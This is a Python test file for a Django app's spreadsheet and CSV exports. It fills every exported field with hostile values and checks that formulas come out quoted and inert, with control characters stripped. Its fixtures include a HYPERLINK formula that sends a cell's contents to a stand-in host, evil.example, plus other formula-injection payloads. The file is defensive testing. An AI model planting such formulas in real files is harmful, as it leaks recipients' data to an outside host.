"""Every export opens safely: no live formula, no control character, numbers stay numbers."""

import csv
import datetime
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from ocop.core.spreadsheet import FORMULA_PREFIXES, safe_cell
from ocop.core.text import strip_control
from ocop.evaluation.models import Enrolment, Result, Round
from ocop.registry.models import Dossier
from tests import factories as f
from tests.reports.factories import CertificateFactory, DecisionFactory

LINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
NUMBER = re.compile(r"-?\d+(\.\d+)?")
HOSTILE = [LINK, "+1+1\x01", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd", "Chè\x01 \x7f\x85Thử"]


def _hostile(n: int) -> str:
    return HOSTILE[n % len(HOSTILE)]


@pytest.fixture
def hostile(units, product_set):
    """Every text an export prints, from producer to round, set to a hostile value."""
    product_set.name_vi = _hostile(0)
    product_set.save()
    decision = DecisionFactory(number=_hostile(1), unit=units.hoa_binh)
    rnd = Round.objects.create(
        level="province",
        unit=units.hoa_binh,
        year=2021,
        title=_hostile(2),
        criteria_set=product_set.criteria_set,
    )
    for n in range(len(HOSTILE)):
        producer = f.ProducerFactory(
            commune=None,
            province=units.hoa_binh,
            name=_hostile(n),
            tax_code=_hostile(n + 1)[:20],
            address=_hostile(n + 2),
            representative_name=_hostile(n + 3),
            phone=_hostile(n + 4)[:30],
            recorded_location=_hostile(n + 5),
        )
        product = f.ProductFactory(
            producer=producer,
            name=_hostile(n + 6),
            status="recognised",
            stars=4,
            origin_unit=None,
            recorded_location=_hostile(n),
            product_set=product_set if n % 2 else None,
            product_group_label=_hostile(n + 1),
        )
        CertificateFactory(product=product, decision=decision, stars=4, score=Decimal("-1.5"))
        dossier = Dossier.objects.create(product=product, kind="first", submitted_at=timezone.now())
        enrolment = Enrolment.objects.create(
            round=rnd, dossier=dossier, product=product, product_set=product_set
        )
        Result.objects.create(
            enrolment=enrolment, criteria_set=product_set.criteria_set, product_set=product_set,
            total=70, stars=4, band_stars=4, member_count=5,
        )  # fmt: skip
    return units


def _urls():
    for fmt in ("xlsx", "csv"):
        yield reverse("reports:open_data", kwargs={"fmt": fmt})
        for what in ("thong-ke", "chung-nhan", "chu-the", "san-pham", "diem"):
            yield reverse("reports:export", kwargs={"what": what, "fmt": fmt})


def _assert_inert(value) -> None:
    """A text cell is inert; a negative number (written by the export as a number) may stay."""
    if isinstance(value, str) and not NUMBER.fullmatch(value):
        assert not value.startswith(FORMULA_PREFIXES), repr(value)
        assert value == strip_control(value), repr(value)


def test_every_cell_of_every_export_is_inert(client, hostile, producer):
    client.force_login(f.build_personas(hostile, producer).province)
    seen = 0
    for url in _urls():
        response = client.get(url)
        assert response.status_code == 200, url
        if url.endswith(".xlsx"):
            book = openpyxl.load_workbook(io.BytesIO(response.getvalue()))
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (url, cell.coordinate, cell.value)
                        _assert_inert(cell.value)
                        seen += cell.value == "'" + LINK
        else:
            for row in csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))):
                for value in row:
                    _assert_inert(value)
                    seen += value == "'" + LINK
    assert seen >= 8  # the link is still there, as text, in every list that prints names


def test_safe_cell_keeps_numbers_and_dates_and_quotes_formulas():
    day = datetime.date(2021, 6, 1)
    assert safe_cell(-5) == -5 and safe_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert safe_cell(day) is day and safe_cell(None) is None
    assert safe_cell("-5") == "'-5"
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("\x01=1+1") == "'=1+1"
    assert safe_cell("Chè\x00 Thử\x9f\nmới\t") == "Chè Thử\nmới\t"
